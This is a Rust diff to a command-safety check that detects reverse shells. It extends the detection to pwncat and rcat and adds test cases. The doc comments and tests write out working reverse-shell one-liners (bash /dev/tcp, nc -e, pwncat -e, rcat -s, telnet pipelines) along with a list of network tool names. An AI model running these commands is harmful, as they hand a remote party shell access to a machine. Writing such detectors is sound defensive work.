@@ -7,8 +7,9 @@ use crate::decision::Risk;
 declare_check! {
     /// **What it flags**: a shell whose input or output is a network connection:
     /// `bash -i >& /dev/tcp/h/p 0>&1` (and `/dev/udp`), `nc -e /bin/sh h p`, `ncat --exec`/
-    /// `--sh-exec`, `socat exec:…`/`system:…`, and a pipeline holding both a shell and a network
-    /// tool (`cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f`, `telnet h 1 | sh | telnet h 2`).
+    /// `--sh-exec`, `pwncat -e`, `rcat -s SHELL`, `socat exec:…`/`system:…`, and a pipeline
+    /// holding both a shell and a network tool (`cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f`,
+    /// `telnet h 1 | sh | telnet h 2`).
     /// The same through zsh's `ztcp` (`zmodload zsh/net/tcp; ztcp h p; zsh >&$REPLY`). Other
     /// use of `/dev/tcp` or `ztcp` (a port probe) is asked about.
     ///
@@ -28,7 +29,7 @@ declare_check! {
 fn is_net_tool(p: &str) -> bool {
     matches!(
         p,
-        "nc" | "ncat" | "netcat" | "socat" | "telnet" | "openssl" | "cryptcat" | "pwncat"
+        "nc" | "ncat" | "netcat" | "socat" | "telnet" | "openssl" | "cryptcat" | "pwncat" | "rcat"
     )
 }
 
@@ -79,7 +80,7 @@ impl Check for ReverseShell {
             }
             let Some(p) = p else { continue };
             let exec_opt = match p {
-                "nc" | "ncat" | "netcat" | "cryptcat" => {
+                "nc" | "ncat" | "netcat" | "cryptcat" | "pwncat" => {
                     let w: Vec<&str> = u.args().map(text).collect();
                     w.iter().enumerate().find_map(|(k, t)| {
                         let next = w.get(k + 1).copied().unwrap_or("");
@@ -95,6 +96,13 @@ impl Check for ReverseShell {
                         (exec || cmd).then(|| (*t).to_owned())
                     })
                 }
+                // rcat (`rcat connect -s bash h p`, `rcat listen -s sh p`): `-s`/`--shell`
+                // serves a shell to the peer.
+                "rcat" => u
+                    .args()
+                    .map(text)
+                    .find(|t| *t == "-s" || t.starts_with("--shell"))
+                    .map(str::to_owned),
                 "socat" => u
                     .args()
                     .map(text)
@@ -174,6 +182,9 @@ mod tests {
                 Some(Decision::Ask),
             ),
             ("zsh -c 'ztcp -c 5'", None),
+            ("pwncat -e /bin/sh 10.0.0.1 4444", Some(Decision::Deny)),
+            ("rcat connect -s bash 10.0.0.1 4444", Some(Decision::Deny)),
+            ("rcat connect 10.0.0.1 4444", None),
             ("nc -zv host 443", None),
             ("socat TCP-LISTEN:8080,fork TCP:localhost:80", None),
         ] {
